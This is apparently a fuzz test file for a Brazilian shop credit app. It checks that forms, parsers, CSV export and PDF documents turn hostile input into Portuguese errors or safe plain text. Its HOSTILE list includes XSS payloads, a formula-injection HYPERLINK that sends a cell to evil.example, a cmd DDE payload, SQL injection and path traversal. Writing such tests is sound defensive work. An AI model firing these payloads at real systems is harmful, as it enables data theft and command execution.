// Bad input (issue 10): every form schema and repository input fuzzed with empty, huge, emoji,
// right-to-left, HTML, spreadsheet-formula, negative, absurd and impossible values -> a clear
// Portuguese error or a safe value, never a crash. Text stays text (stored, exported to CSV,
// laid out in PDFs); what a shop's repositories accept can always be backed up and restored.
import { afterAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import type { z } from 'zod';
import { openDb, type CadernetaDB } from '../../renderer/db/schema';
import { parseInput, isSaneIsoDate } from '../../renderer/db/validation';
import { isRepoError } from '../../renderer/db/errors';
import { customerInputSchema } from '../../renderer/db/customer-schema';
import { creditSaleSchema, tabEntrySchema } from '../../renderer/db/sale-schema';
import { contactSchema, renegotiationSchema } from '../../renderer/db/contact-schema';
import { settingsSchemas } from '../../renderer/db/settings-schemas';
import { DEFAULT_SETTINGS } from '../../renderer/db/settings';
import { customerFormSchema, toCustomerInput } from '../../renderer/features/customers/customer-form-schema';
import { createCustomer, updateCustomer } from '../../renderer/db/customers';
import { createCreditSale, addTabEntry } from '../../renderer/db/sales';
import { receivePayment } from '../../renderer/db/payments';
import { logContact } from '../../renderer/db/collections';
import { searchCustomers } from '../../renderer/db/queries';
import { exportBackup, parseBackup } from '../../renderer/db/backup';
import { formatBRL, parseBRL } from '@shared/money/brl';
import { formatDateBR, parseDateBR, isValidIsoDate } from '@shared/dates/calendar';
import { isDomainError } from '@shared/errors';
import { tableToCsv } from '@shared/export/csv';
import { col, type Table } from '@shared/export/table';
import { buildDocument, type DocumentJob } from '@shared/documents/registry';
import { SAMPLE_CUSTOMER, SAMPLE_POLICY, SAMPLE_SHOP, sampleInstallments } from '@shared/documents/samples';
import { letterTemplate } from '@shared/documents/letters/templates';
import { guardInvariants } from './invariant-guard';

guardInvariants();

const LONG = process.env.RELIABILITY_LONG === '1';
const RUNS = LONG ? 3_000 : 300;
const SEED = Number(process.env.RELIABILITY_SEED ?? 20_251_128);
let fuzzed = 0;
afterAll(() => console.log(`reliability-bad-input: ${fuzzed} hostile inputs, each refused with a message or turned into a safe value`));

/** The strings a shop's forms will meet sooner or later. */
export const HOSTILE: readonly string[] = [
  '',
  ' ',
  '\t\n',
  'x'.repeat(10_000),
  'Ação 😀👨‍👩‍👧‍👦 ç ñ ü',
  'שלום עולם مرحبا',
  '\u202Efdp.exe',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
  '+SUM(1,2)',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(A1:A9)',
  '\u0000\u0007\u001b[31m',
  '\ud800',
  "Robert'); DROP TABLE customers;--",
  '../../etc/passwd',
  '{tabela}',
  '31/02/2025',
  '2025-02-31',
  '9999-12-31',
  '0001-01-01',
  'NaN',
  '-0',
  '1e309',
  '__proto__',
];

const NUMBERS = [-1, -0, 0, 0.5, 1.005, NaN, Infinity, -Infinity, 1e15, 1e20, Number.MAX_SAFE_INTEGER + 2, -Number.MAX_SAFE_INTEGER];

const hostile = fc.constantFrom(...HOSTILE);
const anyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostile },
  { weight: 2, arbitrary: fc.constantFrom(...NUMBERS) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.anything({ maxDepth: 2 }) },
);

/** A record of the schema's fields, each either left out or drawn from the hostile pool. */
function inputsFor(fields: readonly string[], extra: Record<string, fc.Arbitrary<unknown>> = {}): fc.Arbitrary<unknown> {
  const model = Object.fromEntries(fields.map((f) => [f, Object.hasOwn(extra, f) ? (extra[f] ?? anyValue) : anyValue]));
  return fc.oneof({ weight: 9, arbitrary: fc.record(model, { requiredKeys: [] }) }, { weight: 1, arbitrary: fc.anything() });
}

/** Walks a parsed value: numbers finite, strings bounded, anything named like a date sane. */
function assertSafe(v: unknown, maxString: number, path = ''): void {
  if (typeof v === 'number') expect(Number.isFinite(v), `${path} is ${v}`).toBe(true);
  else if (typeof v === 'string') {
    expect(v.length, `${path} length`).toBeLessThanOrEqual(maxString);
    if (/date$/i.test(path) || /(^|\.)date/i.test(path)) expect(isSaneIsoDate(v), `${path} = ${v}`).toBe(true);
  } else if (Array.isArray(v)) v.forEach((x, i) => assertSafe(x, maxString, `${path}[${i}]`));
  else if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) assertSafe(x, maxString, path ? `${path}.${k}` : k);
}

function fuzzSchema(name: string, schema: z.ZodType, valid: unknown, fields: readonly string[], maxString: number, extra: Record<string, fc.Arbitrary<unknown>> = {}): void {
  it(`${name}: ${RUNS} hostile inputs -> a Portuguese error or a safe value`, () => {
    // The schema is not simply refusing everything: a sensible input passes.
    assertSafe(parseInput(schema, valid), maxString);
    fc.assert(
      fc.property(inputsFor(fields, extra), (input) => {
        fuzzed++;
        let out: unknown;
        try {
          out = parseInput(schema, input);
        } catch (e) {
          if (!isRepoError(e)) throw new Error(`crashed on ${JSON.stringify(input)?.slice(0, 200)}: ${String(e)}`, { cause: e });
          expect(e.code).toBe('validation');
          expect(e.message).toMatch(/[a-zà-ú]{3}/i);
          expect(e.message).not.toMatch(/^(Invalid|Expected|Required)/);
          return;
        }
        assertSafe(out, maxString);
      }),
      { seed: SEED, numRuns: RUNS },
    );
  });
}

const validCpf = fc.constantFrom('529.982.247-25', '52998224725', '11.222.333/0001-81', '111.444.777-35');
const dateish = fc.oneof(hostile, fc.constantFrom('2025-03-10', '2024-02-29', '2025-02-29', '1899-12-31', '2200-01-01', '2199-12-31'));
const cents = fc.oneof(fc.constantFrom(...NUMBERS), fc.integer({ min: -10, max: 2_000_000 }), hostile);

describe('form schemas fuzzed', () => {
  fuzzSchema('customer', customerInputSchema, { name: 'Maria <b>da</b> Silva', document: '529.982.247-25', phones: [{ number: '(11) 91234-5678', whatsapp: true }] }, ['name', 'kind', 'document', 'phones', 'email', 'address', 'creditLimitCents', 'notes'], 2_000, {
    name: fc.oneof(hostile, fc.string({ maxLength: 150 })),
    document: fc.oneof(hostile, validCpf),
    phones: fc.array(fc.record({ number: fc.oneof(hostile, fc.constantFrom('(11) 91234-5678', '11912345678')), whatsapp: fc.oneof(fc.boolean(), anyValue) }), { maxLength: 7 }),
    address: fc.oneof(anyValue, fc.record({ cep: fc.oneof(hostile, fc.constant('01310-100')), street: hostile, number: hostile, complement: hostile, district: hostile, city: hostile, uf: fc.oneof(hostile, fc.constant('sp')) })),
    creditLimitCents: cents,
  });
  fuzzSchema('credit sale', creditSaleSchema, { customerId: 'c1', date: '2025-03-10', totalCents: 10_000, plan: { kind: 'plan', count: 3, firstDueDate: '2025-04-10' } }, ['customerId', 'date', 'description', 'items', 'totalCents', 'downPaymentCents', 'plan', 'override'], 500, {
    customerId: fc.oneof(hostile, fc.constant('01J0000000000000000000000')),
    date: dateish,
    totalCents: cents,
    downPaymentCents: cents,
    plan: fc.oneof(
      fc.record({ kind: fc.constant('plan'), count: cents, firstDueDate: dateish, every: fc.oneof(fc.constantFrom('month', 'week', 'fortnight', 'year'), fc.record({ days: cents })) }),
      fc.record({ kind: fc.constant('rows'), rows: fc.array(fc.record({ dueDate: dateish, amountCents: cents }), { maxLength: 5 }) }),
      anyValue,
    ),
    items: fc.array(fc.record({ description: hostile, quantity: cents, unitCents: cents, totalCents: cents }), { maxLength: 3 }),
  });
  fuzzSchema('fiado entry', tabEntrySchema, { customerId: 'c1', date: '2025-03-10', totalCents: 990 }, ['customerId', 'date', 'description', 'items', 'totalCents'], 500, { date: dateish, totalCents: cents });
  fuzzSchema('contact', contactSchema, { customerId: 'c1', channel: 'whatsapp', outcome: 'prometeu_pagar', promisedDate: '2025-03-20', promisedCents: 5_000 }, ['customerId', 'at', 'channel', 'direction', 'outcome', 'promisedDate', 'promisedCents', 'notes', 'documentId'], 2_000, {
    at: fc.oneof(hostile, fc.constantFrom('2025-03-10T22:00:00-03:00', '2025-03-10T25:00:00Z')),
    outcome: fc.oneof(hostile, fc.constantFrom('prometeu_pagar', 'pagou')),
    promisedDate: dateish,
    promisedCents: cents,
  });
  fuzzSchema('renegotiation', renegotiationSchema, { customerId: 'c1', count: 3, firstDueDate: '2025-04-10' }, ['customerId', 'installmentIds', 'discount', 'downPaymentCents', 'count', 'firstDueDate', 'every', 'notes'], 2_000, {
    count: cents,
    firstDueDate: dateish,
    downPaymentCents: cents,
    discount: fc.oneof(anyValue, fc.record({ on: fc.constantFrom('charges', 'total', 'tudo'), cents, percent: cents })),
  });
  fuzzSchema('shop profile', settingsSchemas.shop, { name: 'Loja', tradeName: 'Loja', document: '', address: null, phone: '', email: '', pixKey: '', logoDataUrl: null }, ['name', 'tradeName', 'document', 'address', 'phone', 'email', 'pixKey', 'logoDataUrl'], 2_000_000);
  fuzzSchema('charges policy', settingsSchemas.charges, { finePercent: 2, monthlyInterestPercent: 1, graceDays: 0, extraHolidays: ['2025-12-24'] }, ['finePercent', 'monthlyInterestPercent', 'graceDays', 'extraHolidays'], 200, { finePercent: cents, monthlyInterestPercent: cents, graceDays: cents, extraHolidays: fc.array(dateish, { maxLength: 3 }) });
  fuzzSchema('general settings', settingsSchemas.general, { minimumWageCents: 151_800, overpaymentMode: 'credit', closingDay: 10, tabDueDays: 10, printerWidth: '80mm', timeZone: 'America/Manaus' }, ['minimumWageCents', 'overpaymentMode', 'closingDay', 'tabDueDays', 'printerWidth', 'timeZone'], 200, { minimumWageCents: cents, closingDay: cents, tabDueDays: cents });
  fuzzSchema('holidays', settingsSchemas.holidays, [{ date: '2025-11-20', name: 'Consciência Negra' }], [], 200);
  fuzzSchema('message templates', settingsSchemas.templates, { lembrete: 'Olá {nome}' }, ['lembrete', 'atraso', '__proto__', 'constructor'], 2_000);
  fuzzSchema('collection policy', settingsSchemas.collection, DEFAULT_SETTINGS.collection, ['stages', 'general', 'version'], 10_000);

  it(`the customer form (masked text as typed): ${RUNS} hostile forms -> field errors or a valid repository input`, () => {
    const text = fc.oneof(hostile, fc.string({ maxLength: 30 }));
    fc.assert(
      fc.property(
        fc.record({ name: text, kind: fc.constantFrom('PF', 'PJ'), document: fc.oneof(text, validCpf), phones: fc.array(fc.record({ number: text, whatsapp: fc.boolean() }), { maxLength: 3 }), email: text, cep: text, street: text, number: text, complement: text, district: text, city: text, uf: text, creditLimit: fc.oneof(text, fc.constantFrom('1.250,00', '-5', '99999999999999999999', 'R$ 10,5', '1e3')), notes: text }),
        (form) => {
          fuzzed++;
          const r = customerFormSchema.safeParse(form);
          if (!r.success) {
            for (const issue of r.error.issues) expect(issue.message).toMatch(/[a-zà-ú]{3}/i);
            return;
          }
          // A form the screen accepts maps to repository input that is valid or refused cleanly.
          let input: unknown;
          try {
            input = toCustomerInput(r.data);
          } catch (e) {
            if (!isDomainError(e)) throw e;
            return;
          }
          try {
            assertSafe(parseInput(customerInputSchema, input), 2_000);
          } catch (e) {
            if (!isRepoError(e)) throw e;
          }
        },
      ),
      { seed: SEED + 1, numRuns: RUNS },
    );
  });
});

describe('money and dates as typed', () => {
  it('parseBRL: any text gives a clear error or an exact safe integer; formatBRL round-trips', () => {
    fc.assert(
      fc.property(fc.oneof(hostile, fc.string({ maxLength: 30 }), fc.stringMatching(/^-?(R\$ ?)?\d{1,16}([.,]\d{1,3})?$/)), (s) => {
        fuzzed++;
        try {
          const c = parseBRL(s);
          expect(Number.isSafeInteger(c)).toBe(true);
        } catch (e) {
          expect(isDomainError(e), String(e)).toBe(true);
          expect((e as Error).message).toMatch(/inválid/i);
        }
      }),
      { seed: SEED + 2, numRuns: RUNS * 3 },
    );
    fc.assert(
      fc.property(fc.integer({ min: -1e13, max: 1e13 }), (c) => {
        expect(parseBRL(formatBRL(c))).toBe(c);
      }),
      { seed: SEED + 3, numRuns: RUNS },
    );
  });

  it('parseDateBR: 31/02 and friends are refused; valid dates round-trip', () => {
    for (const bad of ['31/02/2025', '29/02/2025', '31/04/2025', '00/01/2025', '32/01/2025', '01/13/2025', '1/1/25', '', '٠١/٠١/٢٠٢٥', '01/01/2025 <script>']) {
      expect(() => parseDateBR(bad), bad).toThrow(/Data inválida/);
    }
    fc.assert(
      fc.property(fc.oneof(hostile, fc.string({ maxLength: 12 }), fc.stringMatching(/^\d{1,2}\/\d{1,2}\/\d{4}$/)), (s) => {
        fuzzed++;
        try {
          const iso = parseDateBR(s);
          expect(isValidIsoDate(iso)).toBe(true);
          expect(parseDateBR(formatDateBR(iso))).toBe(iso);
        } catch (e) {
          expect(isDomainError(e)).toBe(true);
        }
      }),
      { seed: SEED + 4, numRuns: RUNS * 3 },
    );
  });
});

describe('repositories keep text as text and refuse the absurd', () => {
  let db: CadernetaDB;
  let n = 0;
  const fresh = async (): Promise<CadernetaDB> => (db = await openDb(`bad-input-${++n}-${Date.now()}`));

  it('customer names and notes of every hostile kind are stored exactly as typed (trimmed) and searchable without a crash', async () => {
    await fresh();
    const names = HOSTILE.filter((s) => s.trim().length >= 2 && s.trim().length <= 120);
    for (const name of names) {
      const c = await createCustomer(db, { name, notes: name });
      expect(c.name).toBe(name.trim());
      expect((await db.customers.get(c.id))?.notes).toBe(name.trim());
      expect(Array.isArray(await searchCustomers(db, name))).toBe(true);
      const renamed = await updateCustomer(db, c.id, { name: `${name.trim()} 2` });
      expect(renamed.name).toBe(`${name.trim()} 2`);
    }
    for (const bad of ['', ' ', 'x'.repeat(10_000), 'x']) await expect(createCustomer(db, { name: bad })).rejects.toMatchObject({ code: 'validation' });
    // The backup carries the text byte for byte.
    const restored = await parseBackup((await exportBackup(db)).bytes);
    expect(restored.tables.customers.map((c) => c.notes).sort()).toEqual(names.map((s) => s.trim()).sort());
    db.close();
  });

  it('absurd amounts and impossible dates at the counter are refused with a message', async () => {
    await fresh();
    const c = await createCustomer(db, { name: 'Cliente Teste' });
    for (const totalCents of [-1, 0, 0.5, NaN, Infinity, 1e20, Number.MAX_SAFE_INTEGER + 2]) {
      await expect(createCreditSale(db, { customerId: c.id, date: '2025-03-10', totalCents, plan: { kind: 'plan', count: 2, firstDueDate: '2025-04-10' } }, '2025-03-10')).rejects.toMatchObject({ code: 'validation' });
    }
    for (const date of ['2025-02-31', '31/02/2025', '9999-12-31', '0001-01-01', '2025-3-1', '']) {
      await expect(addTabEntry(db, { customerId: c.id, date, totalCents: 100 }, '2025-03-10')).rejects.toThrow(/Data inválida/);
      await expect(createCreditSale(db, { customerId: c.id, date: '2025-03-10', totalCents: 100, plan: { kind: 'plan', count: 1, firstDueDate: date } }, '2025-03-10')).rejects.toThrow(/Data inválida/);
    }
    for (const amountCents of [-100, 0.5, NaN, 1e20]) {
      await expect(receivePayment(db, { customerId: c.id, amountCents, method: 'pix' }, '2025-03-10')).rejects.toMatchObject({ code: 'validation' });
    }
    await expect(receivePayment(db, { customerId: c.id, amountCents: 100, method: 'bitcoin' as 'pix' }, '2025-03-10')).rejects.toThrow(/Forma de pagamento inválida/);
    await expect(logContact(db, { customerId: c.id, channel: 'phone', outcome: 'prometeu_pagar', promisedDate: '2025-02-31', promisedCents: 100 }, '2025-03-10')).rejects.toThrow(/Data inválida/);
    expect(await db.sales.count()).toBe(0);
    expect(await db.payments.count()).toBe(0);
    db.close();
  });

  it(`whatever dates and plans a sale accepts, the shop can still back up and restore (${LONG ? 300 : 40} sales)`, async () => {
    await fresh();
    const c = await createCustomer(db, { name: 'Cliente das Datas' });
    let accepted = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.integer({ min: -800_000, max: 3_000_000 }),
        fc.integer({ min: -100, max: 800_000 }),
        fc.integer({ min: 1, max: 600 }),
        fc.oneof(fc.constantFrom('month' as const, 'week' as const, 'fortnight' as const), fc.record({ days: fc.integer({ min: 1, max: 365 }) })),
        async (day, firstOffset, count, every) => {
          fuzzed++;
          const date = new Date(Date.UTC(2000, 0, 1) + day * 86_400_000).toISOString().slice(0, 10);
          const first = new Date(Date.UTC(2000, 0, 1) + (day + firstOffset) * 86_400_000).toISOString().slice(0, 10);
          try {
            await createCreditSale(db, { customerId: c.id, date, totalCents: 100_000, plan: { kind: 'plan', count, firstDueDate: first, every } }, '2025-03-10');
            accepted++;
          } catch (e) {
            if (!isRepoError(e)) throw e;
          }
        },
      ),
      { seed: SEED + 5, numRuns: LONG ? 300 : 40 },
    );
    expect(accepted).toBeGreaterThan(0);
    const back = await parseBackup((await exportBackup(db)).bytes);
    expect(back.tables.installments.every((i) => isSaneIsoDate(i.dueDate))).toBe(true);
    db.close();
  }, 60_000);
});

describe('exported CSV cells never run as formulas', () => {
  /** RFC 4180 reader for ';'-separated text (the test's own, independent of the writer). */
  function readCsv(text: string): string[][] {
    const rows: string[][] = [];
    let row: string[] = [];
    let cell = '';
    let quoted = false;
    for (let i = 0; i < text.length; i++) {
      const ch = text[i];
      if (quoted) {
        if (ch === '"' && text[i + 1] === '"') {
          cell += '"';
          i++;
        } else if (ch === '"') quoted = false;
        else cell += ch;
      } else if (ch === '"' && cell === '') quoted = true;
      else if (ch === ';') {
        row.push(cell);
        cell = '';
      } else if (ch === '\r' && text[i + 1] === '\n') {
        row.push(cell);
        rows.push(row);
        row = [];
        cell = '';
        i++;
      } else cell += ch;
    }
    return rows;
  }

  it(`${RUNS} hostile texts in every column kind: read back equal, and formula starts neutralised`, () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(hostile, fc.string({ maxLength: 20 }), fc.string({ unit: 'binary', maxLength: 20 }), fc.stringMatching(/^[=+\-@\t\r][^\r\n]{0,10}$/)), { minLength: 1, maxLength: 6 }), (texts) => {
        fuzzed += texts.length;
        const table: Table = { name: 'T', slug: 't', columns: [col('Nome', 'text'), col('=Cabeçalho', 'text'), col('Valor', 'money'), col('Data', 'date')], rows: texts.map((t) => [t, t, t, t]) };
        const csv = tableToCsv(table);
        expect(csv.startsWith('\ufeff')).toBe(true);
        const rows = readCsv(csv.slice(1));
        expect(rows).toHaveLength(texts.length + 1);
        expect(rows[0]?.[1]).toBe("'=Cabeçalho");
        texts.forEach((t, i) => {
          for (const [k, cell] of (rows[i + 1] ?? []).entries()) {
            expect(cell, JSON.stringify(t)).not.toMatch(/^[=+\-@\t\r]/);
            if (k === 3 && isValidIsoDate(t)) expect(cell).toBe(formatDateBR(t));
            else expect(cell === t || cell === `'${t}`, `${JSON.stringify(t)} -> ${JSON.stringify(cell)}`).toBe(true);
            if (/^[=+\-@\t\r]/.test(t)) expect(cell).toBe(`'${t}`);
          }
        });
      }),
      { seed: SEED + 6, numRuns: RUNS },
    );
  });
});

describe('documents keep hostile text as text', () => {
  const NAME = '<script>alert("x")</script> =HYPERLINK("http://evil") {tabela} שלום 😀';
  const customer = { ...SAMPLE_CUSTOMER, name: NAME, address: SAMPLE_CUSTOMER.address ? { ...SAMPLE_CUSTOMER.address, street: '<img src=x onerror=alert(1)>' } : null };
  const installments = sampleInstallments();
  const jobs: DocumentJob[] = [
    { kind: 'slips', data: { shop: SAMPLE_SHOP, policy: SAMPLE_POLICY, issuedOn: '2026-03-20', slips: installments.map((installment) => ({ customer, installment })) } },
    { kind: 'letter', data: { shop: SAMPLE_SHOP, customer, policy: SAMPLE_POLICY, installments, date: '2026-03-20', deadline: '2026-03-30', template: letterTemplate('aviso_atraso') } },
    { kind: 'receipt', data: { shop: SAMPLE_SHOP, customer, number: 'C1-000001', date: '2026-03-20', amountCents: 10_000, method: 'Pix', lines: [{ label: NAME, principalCents: 10_000, fineCents: 0, interestCents: 0 }], notes: NAME, format: 'thermal80' } },
    { kind: 'statement', data: { shop: SAMPLE_SHOP, customer, from: '2026-01-01', to: '2026-03-20', openingBalanceCents: 0, entries: [{ date: '2026-02-01', kind: 'sale', description: NAME, amountCents: 10_000 }], openInstallments: installments, issuedOn: '2026-03-20' } },
  ];

  /** Every string in a pdfmake definition, with the key it sits under. */
  function strings(v: unknown, key = ''): { key: string; value: string }[] {
    if (typeof v === 'string') return [{ key, value: v }];
    if (Array.isArray(v)) return v.flatMap((x) => strings(x, key));
    if (v && typeof v === 'object') return Object.entries(v).flatMap(([k, x]) => strings(x, k));
    return [];
  }

  for (const job of jobs) {
    it(`${job.kind}: the name is laid out as plain text, never as a link, image or markup`, () => {
      const all = strings(buildDocument(job));
      const text = all.filter((s) => s.key === 'text' || s.key === '').map((s) => s.value).join('\n');
      // Lines may be wrapped; the pieces of the name are there, letter for letter.
      for (const piece of ['<script>alert("x")</script>', '=HYPERLINK("http://evil")', 'שלום', '😀']) expect(text.includes(piece) || text.toUpperCase().includes(piece.toUpperCase()), `${job.kind}: ${piece}`).toBe(true);
      for (const s of all.filter((x) => ['link', 'image', 'svg', 'qr', 'linkToDestination', 'url'].includes(x.key))) {
        expect(s.value, `${job.kind}: hostile text reached "${s.key}"`).not.toMatch(/script|evil|onerror/i);
      }
    });
  }
});
